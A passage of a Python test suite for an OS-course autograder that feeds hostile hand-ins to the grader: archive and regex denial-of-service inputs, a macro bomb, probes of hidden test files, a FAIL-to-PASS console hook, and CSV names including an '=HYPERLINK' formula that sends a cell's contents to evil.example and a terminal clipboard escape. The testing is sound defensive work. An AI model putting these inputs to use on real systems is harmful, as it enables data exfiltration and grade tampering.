            res.append(("grading/units/s6_a_tar_header_of_negative_size_is_refused",
                        "cannot unpack refund.tar: " in said and "size" in said,
                        "%d bytes; %s" % (os.path.getsize(refund), said[:500])))
            # S3: a lab file of 400000 lines, "{" after each of the course's: its
            # regions were looked for 2 minutes (difflib; the course's longest
            # file has 1033 lines). Such a file is ignored now, saying so
            four = handout.find_lab("04") or harness_lab()
            files = handout.pristine_tree(four)
            rel = max(four.files(), key=lambda r: files[r][0].count(b"\n"))
            lines = files[rel][0].decode().splitlines(True)
            tall = os.path.join(tmp, "tall")
            os.makedirs(os.path.join(tall, os.path.dirname(rel)))
            with open(os.path.join(tall, rel), "w") as f:
                f.write("".join(line + "{\n" * (400000 // len(lines)) for line in lines))
            work = os.path.join(tmp, "tall-tree")
            handout.write_tree(files, work)
            said = grader_within("import grade, handout; s = grade.Submission(handout.find_lab("
                                 "%r), %r); s.graded(%r); print(s.notes)" % (four.num, tall, work),
                                 "looking for its regions")
            res.append(("grading/units/s3_a_lab_file_of_400000_lines_is_ignored_at_once",
                        "%s has more than" % rel in said and "lines: ignored" in said,
                        said[:500]))
            # S5: a zip whose central directory lists 400000 empty members (19
            # MB): zipfile made an object of each before the 20000-member cap
            # (1.3 million took 32 s and 600 MB); refused at once now
            many = os.path.join(tmp, "many.zip")
            entry = struct.Struct("<IHHHHHHIIIHHHHHII")
            with open(many, "wb") as f:
                listing = b"".join(entry.pack(0x02014b50, 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0,
                                              0, 0, 0) + b"%06x" % i for i in range(400000))
                f.write(listing + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 0xFFFF, 0xFFFF,
                                              len(listing), 0, 0))
            start = time.monotonic()
            sub = grade.Submission(harness_lab(), many)
            res.append(("grading/units/s5_a_zip_listing_400000_members_is_refused_at_once",
                        any("its list of members takes more than" in n for n in sub.notes),
                        "%.1f s, notes %s" % (time.monotonic() - start, sub.notes)))
            # S4: a lab's asm can put any bytes in .debug_line; a line_range of 0
            # raised ZeroDivisionError out of grade.Symbols when a failed test's
            # eip was named, and the grader failed the whole submission
            with open(os.path.join(tmp, "dl.s"), "w") as f:
                f.write(".text\n.globl _start\n_start:\nnop\nret\n"
                        ".section .debug_line,\"\",@progbits\n.long 2f - 1f\n"
                        "1: .short 4\n.long 3f - 4f\n4: .byte 1, 1, 1, -5, 0, 13\n"
                        ".byte 0,1,1,1,1,0,0,0,1,0,0,1\n.byte 0\n.byte 0\n"
                        "3: .byte 0, 5, 2\n.long _start\n.byte 20\n2:\n")
            elf = os.path.join(tmp, "dl.elf")
            p = subprocess.run("as --32 dl.s -o dl.o && ld -m elf_i386 -o dl.elf dl.o", shell=True,
                               cwd=tmp, capture_output=True, text=True)
            try:
                said = "%s" % grade.Symbols(elf).where(0x08049000)
                ok = p.returncode == 0
            except Exception as e:
                said, ok = "raised %r" % e, False
            res.append(("grading/units/s4_a_debug_line_of_the_lab_s_making_breaks_no_grading",
                        ok, said + "\n" + p.stderr[-500:]))
            lab = handout.find_lab("01")
            if lab:
                bad = []
                for name, path in hostile_archives(tmp):
                    sub = grade.Submission(lab, path)
                    if sub.files:
                        bad.append(name)
                res.append(("grading/units/hostile_archive_members_are_not_unpacked", not bad and
                            not os.path.exists("/tmp/orthos-abs-open.c"), "unpacked: %s" % bad))

            # H1/H3: only the regions are taken; what lies outside is named
            # (vfs.c holds a region of lab 03 and one of lab 04: lab 04's own file)
            lab = handout.find_lab("04")
            if lab:
                rel = "kernel/fs/vfs.c"
                ref = handout.course_tree(lab.num, lab.num)[rel][0].decode()
                mine = handout.unmark(handout.pristine_tree(lab)[rel][0].decode())
                found, changed, lacking = handout.student_regions(mine, ref, rel)
                ok = found[("03", 1)] and found[("04", 1)] and not changed and not lacking
                helper = edit_first(mine, "int vfs_fsopen(", "static int helper(void)\n{\n"
                                    "    return 0;\n}\n\nint vfs_fsopen(")
                found2, changed2, _ = handout.student_regions(helper, ref, rel)
                sig = edit_first(mine, "int vfs_fsopen(const char *type, int srcfd, const char "
                                 "*opts, struct path *out)\n{\n", "int vfs_fsopen(const char "
                                 "*type, int srcfd, const char *opts, struct path *out) {\n")
                found3, _, _ = handout.student_regions(sig, ref, rel)
                ok = ok and found2[("03", 1)] == found[("03", 1)] and len(changed2) == 5 and \
                    found3[("03", 1)] is None and found3[("04", 1)] == found[("04", 1)]
                res.append(("grading/units/regions_are_found_and_text_outside_them_named", bool(ok),
                            "changed %s; %s" % (changed2, found3.get(("03", 1)))))
            # A batch's CSV: a student named like a formula, or with a terminal's
            # escapes in the name, reaches the gradebook as text (red team, fourth round)
            import batch
            import csv
            lab = harness_lab()
            if lab:
                reports = {}
                for who in ('=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+cmd",
                            "alice\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2K"):
                    r = grade.Report(lab, True)
                    r.rows = [{"name": "lab/t", "score": 1, "max_score": 1, "output": "",
                               "hidden": False}]
                    r.notes = ["@SUM(1+1) \x1b[31mred"]
                    reports[who] = r
                path = os.path.join(tmp, "grades.csv")
                batch.write_csv(path, lab, reports)
                with open(path, newline="") as f:
                    text = f.read()
                cells = [c for row in csv.reader(text.splitlines()) for c in row]
                bad = [c for c in cells if c[:1] in "=+-@" or grade.CONTROL.search(c)]
                res.append(("grading/units/csv_cells_are_no_formulas_and_no_terminal_escapes",
                            not bad and "'=HYPERLINK" in text and "alice\\x1b]52" in text,
                            "bad cells %r\n%s" % (bad, text)))
            # S1 (the seventh round's attacks): an answers.md of 200000 "<!--"
            # that never close held the grader for about an hour (re.sub of
            # "<!--.*?-->" searched to the end from each), and one of 300000
            # short lines 20 s (an answer grown a line at a time): a batch
            # has no time limit. Each is read at once now, as before
            lab = next((x for x in handout.labs() if x.questions() and x.uses_harness()), None)
            if lab:
                q1, q2 = (lab.questions() + [None])[:2]
                path = os.path.join(tmp, "answers.md")
                with open(path, "w") as f:
                    f.write("## Lab %s, question %d\n<!-- not this -->\nmy answer in words\n%s\n"
                            % (lab.num, q1, "<!--" * 200000))
                    if q2:
                        f.write("## Lab %s, question %d\n%s" % (lab.num, q2, "a\n" * 300000))
                said = grader_within("import grade, handout; print(grade.check_answers(handout."
                                     "find_lab(%r), open(%r).read()))" % (lab.num, path),
                                     "reading answers.md")
                want = [(q1, "answered")] + ([(q2, "answered")] if q2 else [])
                res.append(("grading/units/s1_an_answers_md_of_unclosed_comments_is_read_at_once",
                            said.startswith(str(want)[:-1]), said[:500]))
            res += grader_round_units(tmp)
        return res
    return "grading/units", run


def grader_round_units(tmp):
    """The ninth session's grader round (g1-g6): a careless student's hand-in
    graded as the stub, a failed test shown as passed, an instructor's typo
    in a points file, and a build that fills the grading machine's disk."""
    import io
    import tarfile
    import zipfile
    import ccguard
    res = []
    lab = handout.find_lab("01")
    solution = handout.read_text(os.path.join(qemu.ROOT, "user/lib/open.c"))
    # G1: Windows PowerShell 5.1's Compress-Archive writes zip names with
    # backslashes; taken as one name at the top, open.c was missing (the stub)
    path = os.path.join(tmp, "powershell.zip")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("lab01\\user\\lib\\open.c", solution)
        z.writestr("lab01\\answers.md", "## Lab 01, question 1\nmy own words here\n")
    sub = grade.Submission(lab, path)
    res.append(("grading/units/g1_a_zip_with_windows_backslashes_is_read",
                list(sub.files) == ["user/lib/open.c"] and sub.answers is not None,
                "files %s, answers %r, notes %s" % (list(sub.files), sub.answers, sub.notes)))
    # G2: make handin packed a symbolic link (an open.c kept elsewhere) as a
    # link, which the grader never follows: the student handed in the stub
    tree = os.path.join(tmp, "linked-tree")
    os.makedirs(os.path.join(tree, "user/lib"))
    real = os.path.join(tmp, "elsewhere-open.c")
    with open(real, "w") as f:
        f.write(solution)
    os.symlink(real, os.path.join(tree, "user/lib/open.c"))
    import handin
    archive = os.path.join(tmp, "linked.tar.gz")
    with tarfile.open(archive, "w:gz") as t:
        said = handin.add_file(t, "user/lib/open.c", tree)
    sub = grade.Submission(lab, archive)
    res.append(("grading/units/g2_make_handin_packs_a_linked_file_s_bytes",
                sub.files.get("user/lib/open.c") == solution.encode() and not said,
                "files %s, notes %s, said %s" % (list(sub.files), sub.notes, said)))
    with open(os.path.join(tree, "answers.md"), "wb") as f:
        f.write(b"a\n" * (grade.FILE_MAX // 2 + 1))
    with tarfile.open(os.path.join(tmp, "big.tar.gz"), "w:gz") as t:
        said = handin.add_file(t, "answers.md", tree)
    res.append(("grading/units/g2_make_handin_says_a_file_the_grader_will_not_read",
                bool(said) and "will not be read" in said[0], repr(said)))
    # G3: a failed test worth 0 points (a hidden one, say) read "passed" on
    # Gradescope, whose status came from score == max_score
    r = grade.Report(lab, True)
    r.rows = [grade.result_row("extra_x/informative", grade.Outcome(False, "no"), 0, True),
              grade.result_row("lab01/t", grade.Outcome(True), 0, False)]
    grade.not_built(r, [("u", 0, 20)], None, "not run")
    status = [t["status"] for t in r.gradescope()["tests"]]
    res.append(("grading/units/g3_a_failed_test_worth_0_points_is_failed_on_gradescope",
                status == ["failed", "passed", "failed"], repr(status)))
    # G4: a points file is checked line by line: float() took "inf" (a hang
    # never timed out: the grading waited for ever) and "nan" (every test
    # timed out at once), int() "-5" (a negative score), a test listed twice
    # counted twice, and a name alone was silently not graded
    bad = []
    for line in ("t 5 inf", "t 5 nan", "t -5", "t 5\nt 5", "t", "t 5 0", "t 5 -1", "t 1e3",
                 "t 5 20 x"):
        path = os.path.join(tmp, "points")
        with open(path, "w") as f:
            f.write("ok 1\n" + line + "\n")
        try:
            got = handout.read_points(path)
            bad.append("%r read as %r" % (line, got))
        except SystemExit as e:
            if "line 2" not in str(e) and "line 3" not in str(e):
                bad.append("%r: %s" % (line, e))
        except Exception as e:          # (not naming the file and line)
            bad.append("%r raised %r" % (line, e))
    with open(path, "w") as f:
        f.write("# comment\na 5\nb 0 7.5  # a comment\n\n")
    good = handout.read_points(path) == [("a", 5, 20), ("b", 0, 7.5)]
    with open(os.path.join(tmp, "twice.c"), "w") as f:
        f.write("LAB_TEST(a), LAB_TEST(b), LAB_TEST(a)")
    table = grade.test_table(os.path.join(tmp, "twice.c"))
    res.append(("grading/units/g4_a_points_file_s_bad_line_is_refused_naming_it",
                not bad and good and table == ["a", "b"], "%s; table %s" % (bad, table)))
    # G5: `char big[200 << 20] = {1};` assembles from a short .zero into a
    # 200 MiB object (under the 256 MiB a file), which ld copied into every
    # program linking open.o (54): 11 GB per grading. The guard refuses an
    # object over OBJECT_MAX (here 8 MiB) and leaves none
    gtree = os.path.join(tmp, "guard-tree")
    os.makedirs(gtree)
    cc = shutil.which(grade.tree_settings(qemu.ROOT).get("CC", "cc")) or "cc"
    codes, most = {}, getattr(ccguard, "OBJECT_MAX", 4 << 20)
    for name, text in (("big", "char big[%d] = {1};\nint f(int i) { return big[i]; }\n"
                        % (most * 2)), ("small", "int f(int i) { return i; }\n")):
        with open(os.path.join(gtree, name + ".c"), "w") as f:
            f.write(text)
        p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "ccguard.py"),
                            "--real", cc, "--tree", gtree, "--", "-m32", "-nostdinc", "-c",
                            os.path.join(gtree, name + ".c"), "-o",
                            os.path.join(gtree, name + ".o")],
                           capture_output=True, text=True, timeout=120)
        codes[name] = (p.returncode, os.path.exists(os.path.join(gtree, name + ".o")),
                       p.stderr[-800:])
    # G10: Gradescope lets a student drop open.c itself on the upload page:
    # it arrives at the submission's top, not at user/lib/open.c, and was
    # graded as the stub
    loose = os.path.join(tmp, "loose")
    os.makedirs(loose)
    for name, text in (("open.c", solution), ("answers.md", "## Lab 01, question 1\nwords\n")):
        with open(os.path.join(loose, name), "w") as f:
            f.write(text)
    sub = grade.Submission(lab, loose)
    path = os.path.join(tmp, "loose.zip")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("open.c", solution)
    zipped = grade.Submission(lab, path)
    res.append(("grading/units/g10_a_lab_file_handed_in_alone_is_taken_at_its_path",
                sub.files == zipped.files == {"user/lib/open.c": solution.encode()} and
                any("taken for it" in n for n in sub.notes),
                "files %s %s, notes %s" % (list(sub.files), list(zipped.files), sub.notes)))
    # G11: a new work tree starts from the full tree's -Werror objects, so
    # its first relaxed build recompiles everything; that ran inside the
    # submission's 300 s build limit and, at load 17, took longer: a
    # correct hand-in scored 0 for the grader's own build. The pristine
    # build comes first now, under BUILD_LIMIT, once a tree (the make and
    # the boots stubbed here: what matters is which builds run, and when)
    wtree = os.path.join(tmp, "fresh-work-tree")
    ref = handout.course_tree(lab.num, lab.num)["user/lib/open.c"][0]
    os.makedirs(os.path.join(wtree, "build"))
    os.makedirs(os.path.join(wtree, "user/lib"))
    with open(os.path.join(wtree, "user/lib/open.c"), "wb") as f:
        f.write(ref)
    calls = []

    def fake_make(tree, jobs=None, relaxed=False, limit=grade.BUILD_LIMIT, guard=False,
                  log=None):
        with open(os.path.join(tree, "user/lib/open.c"), "rb") as f:
            calls.append((limit, guard, f.read() == ref))
        return True, ""
    saved = grade.base_tree, grade.make, grade.run_tests
    grade.base_tree = lambda lab, worker=0, root=None: wtree
    grade.make = fake_make
    grade.run_tests = lambda *a: None
    try:
        for _ in range(2):
            grade.grade_submission(lab, loose, worker=99, log=lambda *a: None)
    except Exception as e:
        calls.append(repr(e))
    finally:
        grade.base_tree, grade.make, grade.run_tests = saved
    first = (grade.BUILD_LIMIT, False, True)
    then = (grade.SUBMISSION_BUILD_LIMIT, True, False)
    res.append(("grading/units/g11_a_new_work_tree_is_built_before_the_submission_goes_in",
                calls == [first, then, then], repr(calls)))
    # G7: a zip of two copies of the tree (orthos/ and orthos-final/) was
    # graded from the first in name order, and nothing said the other went unused
    path = os.path.join(tmp, "two-copies.zip")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("orthos/user/lib/open.c", "/* old */\n")
        z.writestr("orthos-final/user/lib/open.c", solution)
    sub = grade.Submission(lab, path)
    res.append(("grading/units/g7_two_copies_of_the_lab_s_files_are_named_in_a_note",
                any("orthos-final" in n and "orthos" in n.split("graded ")[-1] for n in sub.notes),
                "notes %s" % sub.notes))
    res.append(("grading/units/g5_an_object_of_megabytes_is_refused_by_the_guard",
                codes["big"][:2] == (ccguard.REFUSED, False) and "object file" in codes["big"][2]
                and codes["small"][:2] == (0, True), repr(codes)))
    # G8: a macro that expands for ever (2**40 empty declarations, in little
    # memory) runs cc1 to the build's CPU limit; the guard then asked again
    # with -M -MG, which expanded it again: each lab file cost twice the
    # limit (here 3 s of CPU for 120). Now it is refused after the first
    with open(os.path.join(gtree, "bomb.c"), "w") as f:
        f.write("#define A0 ;\n" + "".join("#define A%d A%d A%d\n" % (i, i - 1, i - 1)
                                           for i in range(1, 41)) + "A40\n")
    import resource
    start = time.monotonic()
    p = subprocess.run([sys.executable, os.path.join(qemu.ROOT, "tools", "ccguard.py"),
                        "--real", cc, "--tree", gtree, "--", "-m32", "-nostdinc", "-c",
                        os.path.join(gtree, "bomb.c"), "-o", os.path.join(gtree, "bomb.o")],
                       capture_output=True, text=True, timeout=300,
                       env=dict(os.environ, LC_ALL="C"),
                       preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (3, 3)))
    res.append(("grading/units/g8_a_macro_bomb_costs_the_cpu_limit_once",
                p.returncode == ccguard.REFUSED and "compiler was stopped" in p.stderr,
                "status %d after %.0f s\n%s" % (p.returncode, time.monotonic() - start,
                                                p.stderr[-500:])))
    return res


class ZeroReader:
    """A file of n zero bytes, read without holding them."""

    def __init__(self, n):
        self.left = n

    def readable(self):
        return True

    def readinto(self, b):
        n = min(len(b), self.left)
        b[:n] = bytes(n)
        self.left -= n
        return n

    @property
    def closed(self):
        return False


def grading_kernel_suite():
    """Kernel labs graded from hand-ins that attack the grading: a console
    hook inside the lab's region that rewrites FAIL into PASS (H1), and a
    correct lab 04 whose vfs.c and namespace.c still have lab 03 as the stub
    (H3)."""
    def run():
        import batch
        res = []
        with tempfile.TemporaryDirectory() as tmp:
            lab = handout.find_lab("06")
            if lab and "fdtable_exec" in handout.read_text(os.path.join(qemu.ROOT,
                                                                        "kernel/fs/file.c")):
                path = os.path.join(tmp, "hook")
                batch.write_fixture(path, kernel_hook_files(lab))
                r, out = grade_cli(lab, path, os.path.join(tmp, "hook.json"))
                ok = r["score"] == 0 and any("signature did not hold" in n
                                             for n in r["extra_data"]["notes"])
                res.append(("grading/kernel/h1_a_console_hook_in_the_region_rewriting_fail_"
                            "into_pass_scores_0", ok, "score %s\n%s" % (r["score"],
                                                                         tail(out, 20))))
            lab = handout.find_lab("04")
            three = handout.find_lab("03")
            if lab and three:
                files = batch.fixture_files(lab, "correct")
                shared = [rel for rel in lab.files() if rel in three.files()]
                for rel in shared:          # lab 04's files that hold lab 03's regions
                    text = handout.pristine_tree(lab)[rel][0].decode()
                    text = batch.stub_keep_markers(text, three, rel)
                    files[rel] = handout.unmark(text).encode()
                path = os.path.join(tmp, "lab04")
                batch.write_fixture(path, files)
                r, out = grade_cli(lab, path, os.path.join(tmp, "lab04.json"))
                full = sum(t[1] for t in lab.points())
                res.append(("grading/kernel/h3_lab_04_is_graded_on_the_reference_lab_03_not_"
                            "the_hand_ins", bool(shared) and r["score"] == full,
                            "files shared %s; score %s of %s\n%s" % (shared, r["score"], full,
                                                                     tail(out, 20))))
        return res
    return "grading/kernel", run


# The instructor-only files (COMMON.md's fixed interface), written out here
# rather than taken from handout.INSTRUCTOR_ONLY, so that a tool leaving
# one out of its own list fails these checks.
INSTRUCTOR_FILES = re.compile(r"^(lab/[^/]+/mutants/.|lab/[^/]+/key\.md$|doc/instructors\.md$)")


def instructor_files_exist():
    """The full tree has some of each kind (so checking their absence is
    not vacuous)."""
    files = handout.tracked_files()
    return all(any(re.match(r, f) for f in files) for r in
               (r"lab/[^/]+/mutants/.+\.mutant$", r"lab/[^/]+/key\.md$", r"doc/instructors\.md$"))


def check_results_json(r):
    """Problems with a results.json against Gradescope's specification."""
    bad = []
    if not isinstance(r.get("score"), (int, float)):
        bad.append("score is not a number")
    if not isinstance(r.get("execution_time"), int):
        bad.append("execution_time is not an integer")
    if not isinstance(r.get("output"), str):
        bad.append("output is not a string")
    tests = r.get("tests")
    if not isinstance(tests, list) or not tests:
        return bad + ["no tests"]
    for t in tests:
        for key, kind in (("name", str), ("output", str), ("score", (int, float)),
                          ("max_score", (int, float))):
            if not isinstance(t.get(key), kind):
                bad.append("a test's %s is missing or of the wrong type: %r" % (key, t))
        if t.get("visibility") not in ("visible", "hidden", "after_due_date", "after_published"):
            bad.append("bad visibility %r" % t.get("visibility"))
        if isinstance(t.get("score"), (int, float)) and t["score"] > t.get("max_score", 0):
            bad.append("score above max_score in %s" % t.get("name"))
    if sum(t.get("score", 0) for t in tests) != r.get("score"):
        bad.append("score is not the sum of the tests' scores")
    return bad


# Gradescope's container as the autograder meets it: root, and no mount
# namespace (Docker's default seccomp profile refuses unshare(2) to a process
# without CAP_SYS_ADMIN). make test runs as root in CI; this prefix runs a
# command so (a seccomp filter: unshare fails with EPERM, x86-64 only, as
# this host is), and autograder_suite runs setup.sh and run_autograder in it.
NO_UNSHARE = """import ctypes, os, struct, sys
code = [(0x20, 0, 0, 4), (0x15, 0, 3, 0xc000003e), (0x20, 0, 0, 0),
        (0x15, 0, 1, 272), (0x06, 0, 0, 0x00050001), (0x06, 0, 0, 0x7fff0000)]
prog = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *c) for c in code))
fprog = ctypes.create_string_buffer(struct.pack("HxxxxxxP", len(code), ctypes.addressof(prog)))
if ctypes.CDLL(None, use_errno=True).prctl(22, 2, fprog, 0, 0) != 0:
    raise SystemExit("seccomp: %s" % os.strerror(ctypes.get_errno()))
os.execvp(sys.argv[1], sys.argv[1:])
"""


def gradescope_like():
    """The prefix that runs a command as Gradescope runs the autograder
    (root, no sandbox), or None when make test is not root."""
    return [sys.executable, "-c", NO_UNSHARE] if os.geteuid() == 0 else None


def autograder_suite():
    """make autograder's zip, unpacked in a simulated /autograder root:
    setup.sh, then run_autograder on a correct and on a stub submission;
    results.json as Gradescope specifies, hidden tests after_published
    and never named in a visible field."""
    def run():
        import batch
        sys.path.insert(0, os.path.join(qemu.ROOT, "tools", "autograder"))
        import package
        four = handout.find_lab("04")           # issue 10's must-show: LAB=04
        lab = four if four and four.uses_harness() and four.points() else harness_lab()
        if not lab:
            return [("grading/autograder/a_lab_uses_lab_h", False, "no lab on lab.h")]
        res = []
        like = gradescope_like() or []
        with tempfile.TemporaryDirectory() as tmp:
            os.chmod(tmp, 0o755)                # as Gradescope's / is
            hidden = os.path.join(tmp, "hidden")
            os.makedirs(hidden)
            src = handout.read_text(os.path.join(lab.path, "test.c"))
            names = [t[0] for t in lab.points()]
            for n in names:
                src = re.sub(r"\b%s\b" % n, "zz_secret_" + n, src)
            with open(os.path.join(hidden, "zz_secret_suite.c"), "w") as f:
                f.write(src)
            with open(os.path.join(hidden, "points"), "w") as f:
                f.write("".join("zz_secret_%s 2\n" % n for n in names))
            zip_path = os.path.join(tmp, "autograder.zip")
            p = subprocess.run(["make", "-s", "-C", qemu.ROOT, "autograder", "LAB=" + lab.num,
                                "GRADE_EXTRA=" + hidden, "AUTOGRADER_ZIP=" + zip_path],
                               capture_output=True, text=True, timeout=300)
            if p.returncode != 0 or not os.path.exists(zip_path):
                return [("grading/autograder/make_autograder", False, tail(p.stdout + p.stderr))]
            with __import__("zipfile").ZipFile(zip_path) as z:
                members = z.namelist()
            leaked = [m for m in members if INSTRUCTOR_FILES.match(m[len("course/"):])
                      or m.startswith("course/build/")]
            with __import__("zipfile").ZipFile(zip_path) as z:
                flat = {m: squash(z.read(m).decode(errors="replace")) for m in members}
            leaked += ["%s holds lab %s's solution" % (m, n) for n, _, body in solution_bodies()
                       if n >= lab.num for m, text in flat.items() if body in text]
            ok = {"setup.sh", "run_autograder"} <= set(members) and not leaked
            res.append(("grading/autograder/zip_has_setup_and_run_at_its_root_nothing_"
                        "instructor_only", ok, "leaked: %s" % leaked))
            ag = os.path.join(tmp, "autograder")
            package.unpack(zip_path, os.path.join(ag, "source"))
            shutil.copy2(os.path.join(ag, "source", "run_autograder"), ag)
            env = dict(os.environ, AUTOGRADER_ROOT=ag, GRADE_EXTRA="")
            p = subprocess.run(like + ["bash", os.path.join(ag, "source", "setup.sh")], env=env,
                               capture_output=True, text=True, timeout=900)
            moved = [d for d in os.listdir(os.path.join(ag, "source")) if d.startswith("hidden")]
            ok = p.returncode == 0 and len(moved) == 1 and moved[0] != "hidden"
            res.append(("grading/autograder/setup_sh_prepares_the_tree_and_hides_the_tests", ok,
                        "hidden folder %s\n%s" % (moved, tail(p.stdout + p.stderr))))
            full = sum(t[1] for t in lab.points()) + 2 * len(names)
            for kind, want in (("correct", full), ("stub", 0)):
                handout.remove(os.path.join(ag, "submission"))
                batch.write_fixture(os.path.join(ag, "submission"), batch.fixture_files(lab, kind))
                p = subprocess.run(like + [os.path.join(ag, "run_autograder")], env=env, cwd=ag,
                                   capture_output=True, text=True, timeout=900)
                try:
                    with open(os.path.join(ag, "results", "results.json")) as f:
                        r = json.load(f)
                except (OSError, ValueError) as e:
                    res.append(("grading/autograder/%s_results_json" % kind, False,
                                "%s\n%s" % (e, tail(p.stdout + p.stderr))))
                    continue
                bad = check_results_json(r)
                if r.get("score") != want:
                    bad.append("score %s, want %s" % (r.get("score"), want))
                hidden_rows = [t for t in r.get("tests", []) if "zz_secret" in t.get("name", "")]
                if len(hidden_rows) != len(names) or \
                        any(t["visibility"] != "after_published" for t in hidden_rows):
                    bad.append("hidden tests not all after_published")
                visible_text = r.get("output", "") + json.dumps(
                    [t for t in r.get("tests", []) if t.get("visibility") == "visible"])
                if "zz_secret" in visible_text:
                    bad.append("a hidden test's name shows in a visible field")
                res.append(("grading/autograder/%s_submission_results_json_scores_%d" % (
                    kind, want), not bad, "; ".join(bad) + "\n" + tail(p.stdout, 10)))

            # C4: a password-protected zip stopped grade.py with no results.json of
            # its own (the student read "the autograder failed"); a grading past
            # Gradescope's timeout would leave none at all
            def ag_run(files, env_more=None):
                handout.remove(os.path.join(ag, "submission"))
                os.makedirs(os.path.join(ag, "submission"))
                for name, data in files.items():
                    with open(os.path.join(ag, "submission", name), "wb") as f:
                        f.write(data)
                p = subprocess.run(like + [os.path.join(ag, "run_autograder")], env=dict(
                    env, **(env_more or {})), cwd=ag, capture_output=True, text=True, timeout=900)
                try:
                    with open(os.path.join(ag, "results", "results.json")) as f:
                        return json.load(f), p.stdout
                except (OSError, ValueError) as e:
                    return {"output": str(e)}, p.stdout
            rel = lab.files()[0]
            zpath = os.path.join(tmp, "encrypted.zip")
            encrypted_zip(zpath, rel, batch.fixture_files(lab, "correct")[rel])
            r, out = ag_run({"handin.zip": open(zpath, "rb").read()})
            ok = not check_results_json(r) and r["score"] == 0 and \
                len([t for t in r["tests"] if t["visibility"] == "visible"]) == len(names) and \
                "password-protected" in r["output"]
            res.append(("grading/autograder/c4_an_encrypted_zip_gets_its_tests_and_a_reason", ok,
                        json.dumps(r)[:1500] + "\n" + tail(out, 10)))
            # Gradescope runs the autograder as root where no sandbox can be
            # made: a submission's #if __has_include and #pragma GCC dependency
            # told whether a file was there, and newer (doc/instructors.md
            # section 7). Two submissions probe the hidden tests' folder, one a
            # file that is there (newer than any source), one a file that is
            # not: their results must not differ. A third probes a file that
            # anyone may read, and must find it (the probe works here).
            name = "grading/autograder/a_probe_as_gradescope_runs_it_learns_nothing_of_the_" \
                "hidden_tests"
            moved = [d for d in os.listdir(os.path.join(ag, "source")) if d.startswith("hidden-")]
            if not like:
                res.append((name, None, "make test is not root here: Gradescope runs the "
                            "autograder as root, and only root can show it"))
            elif len(moved) != 1:
                res.append((name, False, "no hidden folder: %s" % moved))
            else:
                folder = os.path.join(ag, "source", moved[0])
                there = os.path.join(folder, "zz_secret_suite.c")
                future = time.time() + 86400
                os.utime(there, (future, future))
                seen, log = {}, ""
                for kind, path in (("control", os.path.join(ag, "source", "LAB")),
                                   ("there", there), ("absent", os.path.join(folder, "zz_no.c"))):
                    probe = ("\n#if __has_include(\"%s\")\n#warning tidy: it is there\n#else\n"
                             "#warning tidy: it is not there\n#endif\n#pragma GCC dependency "
                             "\"%s\"\nthis does not compile;" % (path, path))
                    rel = lab.files()[0]
                    text = batch.stub_keep_markers(handout.pristine_tree(lab)[rel][0].decode(),
                                                   lab, rel)
                    handout.remove(os.path.join(ag, "submission"))
                    batch.write_fixture(os.path.join(ag, "submission"), {rel: handout.unmark(
                        batch.region_edit(text, lab, probe), lab.num).encode()})
                    p = subprocess.run(like + [os.path.join(ag, "run_autograder")], env=env,
                                       cwd=ag, capture_output=True, text=True, timeout=900)
                    try:
                        with open(os.path.join(ag, "results", "results.json")) as f:
                            r = json.load(f)
                    except (OSError, ValueError) as e:
                        r = {"output": str(e)}
                    log += p.stdout + p.stderr
                    # (make's "  CC file" lines and "Waiting for unfinished jobs"
                    # come or not, as the last grading left the tree's build)
                    said = "%s\n%s\n%s" % (r.get("score"), r.get("output", ""),
                                             json.dumps(r.get("tests")))
                    seen[kind] = re.sub(r"(?m)^(  [A-Z][A-Z0-9]* +\S.*|.*Waiting for "
                                        r"unfinished jobs.*)\n", "", said.replace(path, "PROBED"))
                ok = seen["there"] == seen["absent"] and "tidy: it is there" in seen["control"] \
                    and "tidy: it is there" not in seen["there"] and \
                    "no mount namespace here" in log
                res.append((name, ok, "there:\n%s\n\nabsent:\n%s\n\ncontrol:\n%s\n%s" % (
                    seen["there"][:1500], seen["absent"][:1500], seen["control"][:1000],
                    tail(log, 5))))
            # (a submission whose tests hang: one that grades fast finished
            # within the limit on an idle host, and this check failed)
            handout.remove(os.path.join(ag, "submission"))
            batch.write_fixture(os.path.join(ag, "submission"), batch.fixture_files(lab, "hangs"))
            p = subprocess.run(like + [os.path.join(ag, "run_autograder")], cwd=ag, env=dict(
                env, AUTOGRADER_LIMIT="2"), capture_output=True, text=True, timeout=900)
            try:
                with open(os.path.join(ag, "results", "results.json")) as f:
                    r, out = json.load(f), p.stdout
            except (OSError, ValueError) as e:
                r, out = {"output": str(e)}, p.stdout
            ok = r.get("score") == 0 and "stopped after 2 s" in r.get("output", "") and \
                isinstance(r.get("tests"), list)
            res.append(("grading/autograder/c4_a_grading_past_its_time_still_writes_results_json",
                        ok, json.dumps(r)[:1500] + "\n" + tail(out, 10)))
            # B2: the package's BUDGET (make autograder GRADE_BUDGET=1: less than the
            # build) reaches the grader: every test "not run", hidden ones counted
            handout.remove(os.path.join(ag, "submission"))
            batch.write_fixture(os.path.join(ag, "submission"), batch.fixture_files(lab, "correct"))
            with open(os.path.join(ag, "source", "BUDGET"), "w") as f:
                f.write("1\n")
            p = subprocess.run(like + [os.path.join(ag, "run_autograder")], cwd=ag, env=env,
                               capture_output=True, text=True, timeout=900)
            os.unlink(os.path.join(ag, "source", "BUDGET"))
            try:
                with open(os.path.join(ag, "results", "results.json")) as f:
                    r = json.load(f)
            except (OSError, ValueError) as e:
                r = {"output": str(e)}
            rows = r.get("tests") or [{"output": ""}]
            extra = r.get("extra_data", {})
            ok = r.get("score") == 0 and all(t["output"].startswith("not run: the time budget")
                                             for t in rows) and \
                extra.get("not_run") == ["%s/%s" % (lab.prog, n) for n in names] and \
                extra.get("hidden_not_run") == len(names) and not check_results_json(r) and \
                "zz_secret" not in r.get("output", "") + json.dumps(extra)
            res.append(("grading/autograder/b2_the_package_s_budget_reaches_the_grader", ok,
                        json.dumps(r)[:1500] + "\n" + tail(p.stdout + p.stderr, 10)))
        return res
    return "grading/autograder", run


# ---------------------------------------------------------------- the course
def branch_files(repo, branch):
    """{path: bytes} of a branch of the course repository."""
    import tarfile
    import io
